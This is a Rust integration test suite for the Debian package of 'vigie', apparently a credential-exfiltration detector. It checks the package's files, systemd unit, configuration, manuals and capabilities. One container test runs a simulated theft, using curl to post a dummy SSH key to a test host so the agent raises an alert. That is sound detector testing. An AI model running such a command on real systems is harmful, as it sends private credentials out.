//! The Debian package `cargo xtask package` builds: its files and modes, control fields and
//! conffile, the unit (`systemd-analyze verify`), the packaged configuration and
//! `check-config` on it and on broken files, the manual pages, the unit's capability bounding
//! set running the packaged agent, and the unit run by systemd.
//!
//! This machine's PID 1 is not systemd: the package is unpacked with `dpkg-deb -x` into a
//! temporary root, the unit verified against it, the agent run the way the unit limits it
//! (`setpriv` with the unit's bounding set), and a systemd booted in a container
//! (`systemd-nspawn`) from this host's own tree with the package's files overlaid runs the unit.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::{chown, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

use anyhow::{anyhow, bail, ensure, Context, Result};
use integration_tests::{actor_exe, alert, sensor::Documents, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;
use tempfile::TempDir;

/// The uid and gid of `nobody`.
const NOBODY: (u32, u32) = (65534, 65534);
const CONFIG: &str = "etc/vigie/vigie.toml";
const UNIT: &str = "lib/systemd/system/vigie.service";
const SUBCOMMANDS: [&str; 5] = ["run", "history", "explain", "check-config", "unload"];

/// The package, built once per run of this suite, and unpacked beside it (a static is never
/// dropped, so a temporary directory would be left behind at every run).
struct Package {
    deb: PathBuf,
    root: PathBuf,
}

impl Package {
    fn path(&self, inside: &str) -> PathBuf {
        self.root.join(inside)
    }

    /// The packaged binary.
    fn vigie(&self) -> PathBuf {
        self.path("usr/sbin/vigie")
    }
}

/// `cargo xtask package`, then `dpkg-deb -x` of what it built.
fn package() -> Result<&'static Package> {
    static PACKAGE: OnceLock<Result<Package, String>> = OnceLock::new();
    PACKAGE.get_or_init(|| build_package().map_err(|e| format!("{e:#}"))).as_ref().map_err(|e| anyhow!("{e}"))
}

fn build_package() -> Result<Package> {
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let built = run(Command::new(cargo).args(["xtask", "package"]).current_dir(&workspace))?;
    let stderr = String::from_utf8_lossy(&built.stderr);
    let deb = stderr
        .lines()
        .find_map(|line| line.strip_prefix("[package] built "))
        .map(PathBuf::from)
        .with_context(|| format!("cargo xtask package named no .deb:\n{stderr}"))?;
    let root = deb.with_file_name("unpacked");
    if root.exists() {
        fs::remove_dir_all(&root)?;
    }
    run(Command::new("dpkg-deb").arg("-x").arg(&deb).arg(&root))?;
    Ok(Package { deb, root })
}

/// Runs `command` to completion; fails unless it exits 0.
fn run(command: &mut Command) -> Result<Output> {
    let output = command.stdin(Stdio::null()).output().with_context(|| format!("start {command:?}"))?;
    ensure!(
        output.status.success(),
        "{command:?}: {}\nstdout:\n{}\nstderr:\n{}",
        output.status,
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    Ok(output)
}

fn stdout(command: &mut Command) -> Result<String> {
    Ok(String::from_utf8(run(command)?.stdout)?)
}

/// `dpkg-deb -c`: each path in the package (without `./`) with its mode string and owner.
fn contents(deb: &Path) -> Result<BTreeMap<String, (String, String)>> {
    let listing = stdout(Command::new("dpkg-deb").arg("-c").arg(deb))?;
    listing
        .lines()
        .map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            match fields[..] {
                [mode, owner, _, _, _, path] => Ok((
                    path.trim_start_matches("./").trim_end_matches('/').to_owned(),
                    (mode.to_owned(), owner.to_owned()),
                )),
                _ => bail!("unexpected dpkg-deb -c line {line:?}"),
            }
        })
        .collect()
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn the_package_holds_each_file_with_its_mode_and_owner() -> Result<()> {
    let package = package()?;
    let files: BTreeMap<String, (String, String)> =
        contents(&package.deb)?.into_iter().filter(|(_, (mode, _))| mode != "drwxr-xr-x").collect();
    let mut expected: BTreeMap<String, (String, String)> = [
        ("usr/sbin/vigie", "-rwxr-xr-x"),
        (CONFIG, "-rw-r-----"),
        (UNIT, "-rw-r--r--"),
        ("var/lib/vigie", "drwx------"),
        ("usr/share/doc/vigie/copyright", "-rw-r--r--"),
        ("usr/share/doc/vigie/changelog.gz", "-rw-r--r--"),
        ("usr/share/man/man8/vigie.8.gz", "-rw-r--r--"),
    ]
    .into_iter()
    .map(|(path, mode)| (path.to_owned(), (mode.to_owned(), "root/root".to_owned())))
    .collect();
    for sub in SUBCOMMANDS {
        expected.insert(
            format!("usr/share/man/man8/vigie-{sub}.8.gz"),
            ("-rw-r--r--".into(), "root/root".into()),
        );
    }
    assert_eq!(files, expected, "the package's files (directories 0755 left out)");
    let directories = contents(&package.deb)?;
    assert!(
        directories.values().all(|(_, owner)| owner == "root/root"),
        "everything is root's: {directories:#?}"
    );
    Ok(())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn control_fields_conffile_and_maintainer_scripts_are_debians() -> Result<()> {
    let package = package()?;
    let field = |name: &str| stdout(Command::new("dpkg-deb").arg("-f").arg(&package.deb).arg(name));
    assert_eq!(field("Package")?.trim(), "vigie");
    assert_eq!(field("Section")?.trim(), "admin");
    let version = field("Version")?;
    let reported = stdout(Command::new(package.vigie()).arg("--version"))?;
    assert_eq!(reported.trim(), format!("vigie {}", version.trim()), "the package's version is the binary's");
    assert_eq!(
        field("Architecture")?.trim(),
        stdout(Command::new("dpkg").arg("--print-architecture"))?.trim()
    );
    let depends = field("Depends")?;
    assert!(depends.starts_with("libc6 (>= 2.") && depends.contains("init-system-helpers"), "{depends}");
    let size: u64 = field("Installed-Size")?.trim().parse()?;
    let binary_kib = fs::metadata(package.vigie())?.len() / 1024;
    assert!(
        size >= binary_kib && size < binary_kib + 200,
        "Installed-Size {size} KiB, binary {binary_kib} KiB"
    );

    let control = tempfile::tempdir()?;
    run(Command::new("dpkg-deb").arg("-e").arg(&package.deb).arg(control.path()))?;
    assert_eq!(fs::read_to_string(control.path().join("conffiles"))?, format!("/{CONFIG}\n"));
    let sums = fs::read_to_string(control.path().join("md5sums"))?;
    assert!(sums.contains("usr/sbin/vigie") && !sums.contains(CONFIG), "{sums}");
    for script in ["postinst", "prerm", "postrm"] {
        let path = control.path().join(script);
        assert_eq!(fs::metadata(&path)?.permissions().mode() & 0o777, 0o755, "{script}");
        run(Command::new("sh").arg("-n").arg(&path))?;
    }
    let postinst = fs::read_to_string(control.path().join("postinst"))?;
    assert!(postinst.contains("deb-systemd-helper enable vigie.service"), "enabled on install: {postinst}");
    Ok(())
}

/// The unit's `KEY=` lines (comments and sections left out), in order.
fn unit_settings(unit: &str) -> Vec<(&str, &str)> {
    unit.lines()
        .map(str::trim)
        .filter(|line| !line.starts_with('#') && !line.starts_with('['))
        .filter_map(|line| line.split_once('='))
        .collect()
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn the_unit_verifies_checks_its_config_and_starts_before_the_homeserver() -> Result<()> {
    let package = package()?;
    let root = package.root.display();
    // systemd-analyze verify looks for the unit's binary and man pages in the host's tree: show
    // it the package's, overlaid read-only on /usr in a mount namespace of its own.
    let script = format!(
        "set -e; for dir in usr/sbin usr/share/man; do \
           mount -t overlay overlay -o lowerdir={root}/$dir:/$dir /$dir; done; \
         systemd-analyze verify {root}/{UNIT}"
    );
    let verified = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c", &script])
        .stdin(Stdio::null())
        .output()?;
    let complaints = String::from_utf8_lossy(&verified.stderr);
    assert!(verified.status.success() && complaints.trim().is_empty(), "verify: {complaints}");

    let unit = fs::read_to_string(package.path(UNIT))?;
    let settings = unit_settings(&unit);
    for wanted in [
        ("Type", "notify"),
        ("NotifyAccess", "main"),
        ("ExecStartPre", "/usr/sbin/vigie check-config /etc/vigie/vigie.toml"),
        ("ExecStart", "/usr/sbin/vigie run --config /etc/vigie/vigie.toml"),
        ("Restart", "on-failure"),
        ("Before", "matrix-synapse.service"),
        ("WantedBy", "multi-user.target"),
        ("NoNewPrivileges", "yes"),
        ("ProtectSystem", "strict"),
        ("ProtectHome", "read-only"),
        ("PrivateTmp", "yes"),
        ("MemoryDenyWriteExecute", "yes"),
        ("StateDirectory", "vigie"),
        ("StateDirectoryMode", "0700"),
    ] {
        assert!(settings.contains(&wanted), "the unit lacks {}={}:\n{unit}", wanted.0, wanted.1);
    }
    Ok(())
}

/// `vigie check-config FILE` with the packaged binary.
fn check_config(package: &Package, file: &Path) -> Result<Output> {
    Ok(Command::new(package.vigie()).arg("check-config").arg(file).stdin(Stdio::null()).output()?)
}

/// The keys the loader accepts in a table (`""`: the top level), from its own refusal of an
/// unknown one: ``expected one of `a`, `b` `` (or ``expected `a` ``).
fn known_keys(package: &Package, dir: &Path, table: &str) -> Result<Vec<String>> {
    let probe = dir.join(format!("probe{table}.toml"));
    fs::write(&probe, format!("{table}\nno_such_key = 1\n"))?;
    let refused = check_config(package, &probe)?;
    let stderr = String::from_utf8_lossy(&refused.stderr);
    let (_, list) = stderr
        .split_once("expected one of ")
        .or_else(|| stderr.split_once("expected "))
        .with_context(|| format!("{table}: {stderr}"))?;
    let list = list.lines().next().unwrap_or_default();
    Ok(list.split(", ").map(|key| key.trim_matches('`').to_owned()).collect())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn the_packaged_config_checks_clean_and_shows_every_option() -> Result<()> {
    let package = package()?;
    let config = package.path(CONFIG);
    let checked = check_config(package, &config)?;
    let summary = String::from_utf8_lossy(&checked.stdout);
    assert_eq!(checked.status.code(), Some(0), "{checked:?}");
    assert_eq!(summary.lines().count(), 1, "one line: {summary}");
    assert!(summary.starts_with(&format!("{}: ok: ", config.display())), "{summary}");
    assert!(summary.contains("journal /var/lib/vigie/journal.db"), "{summary}");
    assert!(summary.contains("keep_loaded /sys/fs/bpf/vigie,"), "{summary}");

    let text = fs::read_to_string(&config)?;
    let dir = tempfile::tempdir()?;
    for (table, shown_as) in [("", ""), ("[journal]", ""), ("[metrics]", "# "), ("[[services]]", "# ")] {
        assert!(table.is_empty() || text.contains(&format!("\n{shown_as}{table}\n")), "{table} is shown");
        for key in known_keys(package, dir.path(), table)? {
            // A setting, or a table of its own (`[journal]`, `[[services]]`), commented or not.
            let shown = text.lines().map(|line| line.trim_start_matches("# ")).any(|line| {
                line.starts_with(&format!("{key} = "))
                    || line == format!("[{key}]")
                    || line == format!("[[{key}]]")
            });
            assert!(shown, "option {key} of {table:?} is not in the packaged config");
        }
    }
    assert!(text.lines().any(|l| l == "keep_loaded = true"), "the packaged config keeps the programs loaded");
    for sink in ["syslog", "webhook", "matrix", "file"] {
        assert!(text.contains(&format!("# type = \"{sink}\"")), "a commented {sink} sink");
    }
    // Each commented sink, uncommented, is one the loader takes.
    let (_, sinks) = text.split_once("\n# [[sink]]").context("no commented sink")?;
    let lines: Vec<&str> = sinks.lines().map(|l| l.trim_start_matches('#').trim()).collect();
    let sinks = format!("[[sink]]{}\n", lines.join("\n"));
    let uncommented = dir.path().join("sinks.toml");
    fs::write(&uncommented, sinks)?;
    let checked = check_config(package, &uncommented)?;
    let summary = String::from_utf8_lossy(&checked.stdout);
    assert!(checked.status.success() && summary.contains(", 4 sinks,"), "{checked:?}");
    Ok(())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn broken_configs_are_refused_with_file_line_and_column() -> Result<()> {
    let package = package()?;
    let dir = tempfile::tempdir()?;
    for (name, text, expected) in [
        (
            "unknown-key",
            "profiles = [\"none\"]\n\nsecretz = [\"/x\"]\n",
            vec!["3:1: unknown field `secretz`"],
        ),
        (
            "bad-type",
            "taint_window_secs = \"an hour\"\n",
            vec!["1:21: field `taint_window_secs`: invalid type"],
        ),
        (
            "bad-cidr",
            "trusted_nets = [\n  \"10.0.0.0/8\",\n  \"10.0.0.0/33\",\n]\n",
            vec!["3:3: field `trusted_nets`"],
        ),
        ("nested-unknown", "[journal]\nretention = 3\n", vec!["2:1: unknown field `retention`"]),
        (
            "homeserver",
            "profiles = [\"matrix-synapse\"]\nsynapse_config = \"/no/such/homeserver.yaml\"\n",
            vec!["2:18: Synapse config /no/such/homeserver.yaml"],
        ),
        (
            "semantic",
            "profiles = [\"default\", \"defualt\"]\nallow_readers = [\"/no/such/reader\"]\n",
            vec!["1:24: unknown profile \"defualt\"", "2:18: allowed reader /no/such/reader"],
        ),
    ] {
        let file = dir.path().join(format!("{name}.toml"));
        fs::write(&file, text)?;
        let refused = check_config(package, &file)?;
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{name}: {refused:?}");
        assert!(!stderr.contains("panicked"), "{name}: {stderr}");
        let problems: Vec<&str> = stderr.lines().filter(|l| !l.starts_with("vigie: ")).collect();
        assert_eq!(problems.len(), expected.len(), "{name}: one line per problem: {stderr}");
        for (line, expected) in problems.iter().zip(&expected) {
            let prefix = format!("{}:{expected}", file.display());
            assert!(line.starts_with(&prefix), "{name}: {line:?} does not start with {prefix:?}");
        }
        assert!(refused.stdout.is_empty(), "{name}: no summary for a refused file");
    }
    Ok(())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn the_manual_covers_every_subcommand() -> Result<()> {
    let package = package()?;
    let page = |name: &str| -> Result<String> {
        let path = package.path(&format!("usr/share/man/man8/{name}.8.gz"));
        let text = stdout(Command::new("man").arg("-l").arg(&path).env("LC_ALL", "C"))?;
        // Justified lines: words one space apart, whatever the width.
        Ok(text.split_whitespace().collect::<Vec<_>>().join(" "))
    };
    let main_page = page("vigie")?;
    for sub in SUBCOMMANDS {
        assert!(main_page.contains(&format!("vigie-{sub}(8)")), "vigie(8) lists {sub}:\n{main_page}");
        let sub_page = page(&format!("vigie-{sub}"))?;
        assert!(sub_page.contains(&format!("vigie {sub} ")), "vigie-{sub}(8) has its synopsis:\n{sub_page}");
    }
    let run_page = page("vigie-run")?;
    for option in ["--config", "--secret", "--trusted-net", "--journal", "--metrics", "--backend"] {
        assert!(run_page.contains(option), "vigie-run(8) describes {option}");
    }
    assert!(!main_page.contains("vigie-manual"), "the hidden packaging subcommand stays out of the manual");
    Ok(())
}

/// `setpriv` limiting the packaged agent to `capabilities` (`CAP_SYS_ADMIN`...) as the unit's
/// `CapabilityBoundingSet=` does a root service: after exec, root holds exactly the bounding set.
fn limited_to(package: &Package, capabilities: &[&str]) -> Vec<OsString> {
    let set: Vec<String> = capabilities
        .iter()
        .map(|cap| format!("+{}", cap.trim_start_matches("CAP_").to_lowercase()))
        .collect();
    vec![
        "setpriv".into(),
        format!("--bounding-set=-all,{}", set.join(",")).into(),
        "--inh-caps=-all".into(),
        "--".into(),
        package.vigie().into(),
    ]
}

/// The unit's `CapabilityBoundingSet=`.
fn unit_capabilities(package: &Package) -> Result<Vec<String>> {
    let unit = fs::read_to_string(package.path(UNIT))?;
    let settings = unit_settings(&unit);
    let (_, set) =
        settings.iter().find(|(key, _)| *key == "CapabilityBoundingSet").context("no bounding set")?;
    Ok(set.split_whitespace().map(str::to_owned).collect())
}

/// A lab whose secret is `nobody`'s, in a directory only `nobody` may enter (as `~/.ssh` is),
/// and the packaged agent watching it with only `capabilities`; with its `sensor-started`.
fn watch_private_secret(package: &Package, capabilities: &[&str]) -> Result<(Lab, Sensor, Value)> {
    let lab = Lab::new(actor_exe!())?;
    chown(lab.secret(), Some(NOBODY.0), Some(NOBODY.1))?;
    fs::set_permissions(lab.secret(), fs::Permissions::from_mode(0o600))?;
    chown(lab.dir(), Some(NOBODY.0), Some(NOBODY.1))?;
    fs::set_permissions(lab.dir(), fs::Permissions::from_mode(0o700))?;
    let sensor =
        lab.sensor_as(&limited_to(package, capabilities), &Documents::Stdout, &["--no-journal"], &[])?;
    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
    Ok((lab, sensor, started))
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn the_units_capabilities_are_enough_to_watch_a_private_secret_and_tell_the_story() -> Result<()> {
    let package = package()?;
    let caps = unit_capabilities(package)?;
    let caps: Vec<&str> = caps.iter().map(String::as_str).collect();
    assert_eq!(caps, ["CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH"]);
    let (lab, sensor, started) = watch_private_secret(package, &caps)?;
    assert_eq!(started["vigie"]["fingerprints"]["files"], 1, "the private secret is read: {started:#}");

    let run = lab.actor().read(lab.secret()).tcp(lab.remote().tcp_v4()).run()?;

    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    // The test process started before the agent: only /proc (CAP_SYS_PTRACE) names its program.
    let test_exe = std::env::current_exe()?.canonicalize()?;
    assert_eq!(alert["process"]["parent"]["executable"], test_exe.to_str().unwrap_or_default(), "{alert:#}");
    Ok(())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn without_cap_dac_read_search_a_private_secret_is_not_watched() -> Result<()> {
    let package = package()?;
    let (lab, _sensor, started) = watch_private_secret(package, &["CAP_SYS_ADMIN", "CAP_SYS_PTRACE"])?;
    assert_eq!(started["vigie"]["fingerprints"]["files"], 0, "{started:#}");
    let unmatched = started["vigie"]["patterns_unmatched"].as_array().cloned().unwrap_or_default();
    assert!(unmatched.iter().any(|p| p.as_str() == lab.secret().to_str()), "{started:#}");
    Ok(())
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn without_cap_sys_admin_the_agent_refuses_to_start_with_exit_2() -> Result<()> {
    let package = package()?;
    let lab = Lab::new(actor_exe!())?;
    // What the kernel's bpf() checks alone would suggest; the TLS uprobes need CAP_SYS_ADMIN.
    let caps = ["CAP_BPF", "CAP_PERFMON", "CAP_NET_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH"];
    let command_line = limited_to(package, &caps);
    let secret = lab.secret().to_str().unwrap_or_default();
    let refused = Command::new(&command_line[0])
        .args(&command_line[1..])
        .args(["run", "--profile", "none", "--secret", secret, "--no-journal"])
        .stdin(Stdio::null())
        .output()?;
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("perf_event_open") && !stderr.contains("panicked"), "{stderr}");
    Ok(())
}

/// A container booted by systemd from this host's own tree (`systemd-nspawn --volatile=yes`:
/// a fresh `/etc` and `/var`, `/usr` read-only) with the package's files overlaid, so that the
/// real systemd runs the real unit. Dropping it powers the container off.
struct BootedContainer {
    nspawn: std::process::Child,
    init: u32,
    _overlay: TempDir,
    /// A BPF file system of its own, as systemd mounts one at `/sys/fs/bpf` on a real host
    /// (nspawn's `/sys` has none): the agent pins its programs there.
    bpffs: TempDir,
}

impl BootedContainer {
    /// Boots it and waits for `vigie.service` (enabled by the first boot's presets) to settle.
    fn boot(package: &Package) -> Result<Self> {
        // The package's /usr and /lib (a link to usr/lib on Debian) as one tree over /usr.
        let overlay = tempfile::tempdir()?;
        for (from, to) in [("usr/sbin", "sbin"), ("usr/share", "share"), ("lib/systemd", "lib/systemd")] {
            fs::create_dir_all(overlay.path().join(to).parent().context("a parent")?)?;
            run(Command::new("cp").arg("-a").arg(package.path(from)).arg(overlay.path().join(to)))?;
        }
        let bpffs = tempfile::tempdir()?;
        run(Command::new("mount").args(["-t", "bpf", "bpf"]).arg(bpffs.path()))?;
        let nspawn = Command::new("systemd-nspawn")
            .args(["--quiet", "--directory=/", "--volatile=yes", "--register=no", "--keep-unit"])
            .args(["--private-network", "--capability=all"])
            .arg(format!("--machine=vigie-package-{}", std::process::id()))
            // nspawn's own seccomp filter refuses bpf() in the container: allow what the agent calls.
            .arg("--system-call-filter=bpf perf_event_open fanotify_init fanotify_mark")
            .arg(format!("--overlay-ro=/usr:{}:/usr", overlay.path().display()))
            .arg(format!("--bind-ro={}:/etc/vigie", package.path("etc/vigie").display()))
            .arg(format!("--bind={}:/sys/fs/bpf", bpffs.path().display()))
            .args(["--boot", "--", "systemd.firstboot=off"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context("start systemd-nspawn")?;
        let mut container = BootedContainer { init: 0, nspawn, _overlay: overlay, bpffs };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
        loop {
            if container.init == 0 {
                container.init = container_init(container.nspawn.id()).unwrap_or(0);
            }
            // Active, and past the start-up: the agent said `sensor-started`.
            if container.init != 0 {
                let state = container.shell(
                    "systemctl is-active vigie; journalctl -u vigie -o cat --no-pager | grep -c sensor-started",
                )?;
                if state.starts_with("active\n") && !state.ends_with("\n0\n") {
                    return Ok(container);
                }
            }
            ensure!(container.nspawn.try_wait()?.is_none(), "the container exited while booting");
            ensure!(std::time::Instant::now() < deadline, "vigie.service did not become active at boot");
            std::thread::sleep(std::time::Duration::from_millis(500));
        }
    }

    /// `sh -c SCRIPT` inside the container; its stdout, whatever its exit code.
    fn shell(&self, script: &str) -> Result<String> {
        let output = Command::new("nsenter")
            .arg("--target")
            .arg(self.init.to_string())
            .args(["--all", "sh", "-c", script])
            .stdin(Stdio::null())
            .output()?;
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    }
}

/// The container's systemd: the first descendant of nspawn (which forks twice) called `systemd`.
fn container_init(pid: u32) -> Option<u32> {
    let children = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).ok()?;
    children.split_whitespace().filter_map(|c| c.parse().ok()).find_map(|child: u32| {
        let comm = fs::read_to_string(format!("/proc/{child}/comm")).ok()?;
        if comm.trim() == "systemd" {
            Some(child)
        } else {
            container_init(child)
        }
    })
}

impl Drop for BootedContainer {
    fn drop(&mut self) {
        // SIGTERM asks nspawn to power the container off; it is killed if that hangs.
        let pid = libc::pid_t::try_from(self.nspawn.id()).unwrap_or(0);
        // SAFETY: a plain syscall on our own child, not yet reaped.
        unsafe { libc::kill(pid, libc::SIGTERM) };
        let stopped = (0..100).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(100));
            self.nspawn.try_wait().ok().flatten().is_some()
        });
        if !stopped {
            let _ = self.nspawn.kill();
            let _ = self.nspawn.wait();
        }
        // Unmounting the container's BPF file system detaches what the agent left pinned.
        let _ = Command::new("umount").arg("-l").arg(self.bpffs.path()).status();
    }
}

#[test]
#[ignore = "builds the release package and needs root: run with cargo xtask test"]
fn systemd_runs_the_unit_at_boot_and_its_alert_reaches_the_journal() -> Result<()> {
    let package = package()?;
    let container = BootedContainer::boot(package)?;
    let status = container.shell("systemctl show vigie -p ExecMainPID -p NRestarts")?;
    assert!(status.contains("NRestarts=0"), "started once, no restart: {status}");
    // A secret of the default profile, and a host in a namespace made in the container.
    let story = container.shell(
        "mkdir -p /root/.ssh && echo 'not a real key, only for the test' > /root/.ssh/id_test
         chmod 600 /root/.ssh/id_test
         ip netns add remote && ip link add vigie0 type veth peer name eth0 netns remote
         ip addr add 10.213.7.1/24 dev vigie0 && ip link set vigie0 up
         ip -n remote addr add 10.213.7.2/24 dev eth0 && ip -n remote link set eth0 up
         ip netns exec remote timeout 20 socat -u TCP-LISTEN:8080,reuseaddr OPEN:/dev/null &
         sleep 1
         curl -s -m 5 --data-binary @/root/.ssh/id_test http://10.213.7.2:8080/ -o /dev/null
         for i in $(seq 50); do
           journalctl -u vigie -o cat --no-pager | grep -q credential-exfiltration && break; sleep 0.2
         done
         journalctl -u vigie -o cat --no-pager | grep credential-exfiltration
         systemctl stop vigie
         journalctl -u vigie -o cat --no-pager | grep -q sensor-stopped && echo stopped-cleanly
         systemctl show vigie -p Result -p ExecMainStatus
         ls /sys/fs/bpf/vigie | sed 's/^/pinned: /'
         systemctl start vigie
         echo started-documents: $(journalctl -u vigie -o cat --no-pager | grep -c sensor-started)
         journalctl -u vigie -o cat --no-pager | grep sensor-started | tail -n 1
         ip netns del remote",
    )?;
    let alert = story.lines().find(|l| l.contains("credential-exfiltration")).context(story.clone())?;
    let alert: Value = serde_json::from_str(alert)?;
    assert_eq!(alert::file_path(&alert), Some("/root/.ssh/id_test"), "{alert:#}");
    assert_eq!(alert["process"]["name"], "curl", "{alert:#}");
    assert!(
        story.contains("stopped-cleanly")
            && story.contains("Result=success")
            && story.contains("ExecMainStatus=0"),
        "a clean stop, sensor-stopped in the journal: {story}"
    );
    // `Type=notify`: `systemctl start` returned once the agent said it was ready, with its
    // programs attached and `sensor-started` written.
    assert!(
        story.contains("started-documents: 2\n"),
        "the second start was ready when systemctl returned: {story}"
    );
    // The packaged config keeps the programs loaded: the next start takes over what they left.
    let pinned: Vec<&str> = story.lines().filter_map(|l| l.strip_prefix("pinned: ")).collect();
    assert_eq!(pinned.len(), 1, "one generation left pinned by the stop: {story}");
    let restarted = story.lines().rev().find(|l| l.contains("sensor-started")).context(story.clone())?;
    let restarted: Value = serde_json::from_str(restarted)?;
    let generations = &restarted["vigie"]["kept_loaded"]["taken_over"]["generations"];
    assert_eq!(generations, &serde_json::json!(pinned), "the restart took over the stop's: {restarted:#}");
    Ok(())
}
